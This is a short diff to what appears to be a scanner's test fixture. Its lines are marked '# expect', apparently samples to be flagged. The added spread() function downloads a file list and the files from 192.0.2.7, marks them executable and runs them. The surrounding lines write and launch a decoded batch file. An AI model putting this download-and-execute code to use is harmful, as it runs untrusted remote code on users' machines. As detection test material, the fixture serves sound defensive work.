@@ -19,3 +19,12 @@ os.system("/tmp/x.sh")  # expect
 target = os.environ["APPDATA"] + "\\helper.bat"
 open(target, "w").write(base64.b64decode("QGVjaG8gb2Zm").decode())
 os.startfile(target)  # expect
+
+
+def spread():
+    names = requests.get("http://192.0.2.7/list.txt").text.split()
+    for name in names:
+        with open(name, "wb") as f:
+            f.write(requests.get("http://192.0.2.7/" + name).content)
+        os.system("chmod +x " + name)
+        os.system("./" + name + " &")  # expect
